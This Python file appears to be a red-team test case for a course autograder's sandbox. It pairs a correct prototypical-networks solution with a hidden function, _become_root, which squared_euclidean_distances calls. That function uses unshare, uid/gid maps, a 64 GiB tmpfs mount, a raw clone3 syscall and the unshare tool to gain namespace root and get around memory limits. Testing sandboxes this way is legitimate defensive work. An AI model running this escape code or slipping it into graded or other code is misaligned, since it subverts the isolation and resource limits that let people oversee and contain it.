"""Attack a25 (become root in a namespace): squared_euclidean_distances makes itself dumpable again,
unshares a user and a mount namespace, maps itself to root there and mounts a 64 GiB tmpfs (memory
the per-process limit does not count, and root-only kernel code within reach); it also tries
clone3 directly and the unshare(1) tool. It prints "cs330atk LEAK ..." for whatever works and
raises with the errors. Everything else is the correct solution.

Targets: squared_euclidean_distances, protonet_logits, protonet_loss. Expected: exactly 13 / 31;
the targeted tests fail with "raised an exception" ("cs330atk contained"); nothing works.
"""

from __future__ import annotations

import torch
import torch.nn.functional as F


def compute_prototypes(
    support_features: torch.Tensor, support_labels: torch.Tensor, n_way: int
) -> torch.Tensor:
    """Return the (n_way, D) class prototypes: row c is the mean support feature of class c.

    support_features: (N*K, D) float tensor, in any order (not grouped by class).
    support_labels: (N*K,) int64 tensor with values in [0, n_way).
    """
    one_hot = F.one_hot(support_labels, n_way).to(support_features.dtype)  # (N*K, N)
    counts = one_hot.sum(dim=0).unsqueeze(1)  # (N, 1)
    return one_hot.t() @ support_features / counts


def squared_euclidean_distances(
    query_features: torch.Tensor, prototypes: torch.Tensor
) -> torch.Tensor:
    """Return the (Q, N) matrix whose entry (i, c) is ||query_i - prototype_c||^2.

    query_features: (Q, D) float tensor; prototypes: (N, D) float tensor.
    """
    raise PermissionError("cs330atk contained: " + "; ".join(_become_root()))
    diff = query_features.unsqueeze(1) - prototypes.unsqueeze(0)  # (Q, N, D)
    return (diff * diff).sum(dim=-1)


def protonet_logits(query_features: torch.Tensor, prototypes: torch.Tensor) -> torch.Tensor:
    """Return the (Q, N) logits: the negative squared Euclidean distances to each prototype."""
    return -squared_euclidean_distances(query_features, prototypes)


def protonet_loss(
    support_features: torch.Tensor,
    support_labels: torch.Tensor,
    query_features: torch.Tensor,
    query_labels: torch.Tensor,
    n_way: int,
) -> tuple[torch.Tensor, torch.Tensor]:
    """Return (loss, accuracy) of one episode.

    loss: scalar, the mean cross-entropy of the query logits against query_labels; it must be
        differentiable with respect to both support_features and query_features.
    accuracy: 0-dim tensor in [0, 1] (not a Python float), the fraction of queries whose nearest
        prototype is their class.
    support_features: (N*K, D); support_labels: (N*K,) int64; query_features: (Q, D);
    query_labels: (Q,) int64, all labels in [0, n_way).
    """
    prototypes = compute_prototypes(support_features, support_labels, n_way)
    logits = protonet_logits(query_features, prototypes)
    loss = F.cross_entropy(logits, query_labels)
    accuracy = (logits.argmax(dim=1) == query_labels).to(logits.dtype).mean()
    return loss, accuracy


def sample_episode(
    class_ids: torch.Tensor,
    n_way: int,
    k_shot: int,
    q_queries: int,
    generator: torch.Generator,
) -> tuple[torch.Tensor, torch.Tensor, torch.Tensor, torch.Tensor]:
    """Sample one N-way K-shot episode; return (support_idx, support_y, query_idx, query_y).

    class_ids: (M,) int64, the class of each of M examples in the pool.
    Picks n_way distinct classes, then k_shot + q_queries distinct examples of each.
    support_idx: (n_way*k_shot,) int64 indices into the pool; support_y: (n_way*k_shot,) int64
    labels in [0, n_way), the chosen classes relabelled 0..n_way-1 in the order they were picked.
    query_idx, query_y: the same for the n_way*q_queries queries. Support and query examples
    never overlap. Use only `generator` for randomness.
    """
    classes = torch.unique(class_ids)
    chosen = classes[torch.randperm(len(classes), generator=generator)[:n_way]]
    support_idx, support_y, query_idx, query_y = [], [], [], []
    for label, cls in enumerate(chosen):
        members = torch.nonzero(class_ids == cls).flatten()
        picked = members[torch.randperm(len(members), generator=generator)[: k_shot + q_queries]]
        support_idx.append(picked[:k_shot])
        query_idx.append(picked[k_shot:])
        support_y.append(torch.full((k_shot,), label, dtype=torch.long))
        query_y.append(torch.full((q_queries,), label, dtype=torch.long))
    return (
        torch.cat(support_idx),
        torch.cat(support_y),
        torch.cat(query_idx),
        torch.cat(query_y),
    )


def _become_root():
    import ctypes
    import os
    import subprocess

    libc = ctypes.CDLL(None, use_errno=True)
    report, uid, gid = [], os.getuid(), os.getgid()
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE, so that /proc/self/uid_map is ours to write
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        report.append(f"unshare: {os.strerror(ctypes.get_errno())}")
    else:
        print("cs330atk LEAK new user namespace")
        for path, text in (("/proc/self/uid_map", f"0 {uid} 1"), ("/proc/self/setgroups", "deny"),
                           ("/proc/self/gid_map", f"0 {gid} 1")):
            try:
                with open(path, "w") as handle:
                    handle.write(text)
            except OSError as exc:
                report.append(f"{path}: {exc.strerror}")
        os.makedirs("cs330atk-mnt", exist_ok=True)
        if libc.mount(b"none", os.path.abspath("cs330atk-mnt").encode(), b"tmpfs", 0, b"size=64g") == 0:
            written = 0
            try:
                with open("cs330atk-mnt/fill", "wb") as handle:
                    for _ in range(64):
                        handle.write(b"\0" * (1 << 20))
                        written += 1
            except OSError as exc:
                report.append(f"tmpfs write: {exc.strerror}")
            print(f"cs330atk LEAK mounted a tmpfs and wrote {written} MiB to it")
        else:
            report.append(f"mount: {os.strerror(ctypes.get_errno())}")
    result = libc.syscall(435, None, 0)  # clone3 with no arguments
    report.append(f"clone3: {os.strerror(ctypes.get_errno()) if result != 0 else 'returned 0'}")
    try:
        done = subprocess.run(["unshare", "--user", "--map-root-user", "id", "-u"], capture_output=True,
                              text=True, timeout=5)
        if done.returncode == 0:
            print(f"cs330atk LEAK unshare(1) ran as uid {done.stdout.strip()}")
        report.append(f"unshare(1): exit {done.returncode} {done.stderr.strip()[:80]}")
    except (OSError, subprocess.TimeoutExpired) as exc:
        report.append(f"unshare(1): {exc}")
    return report
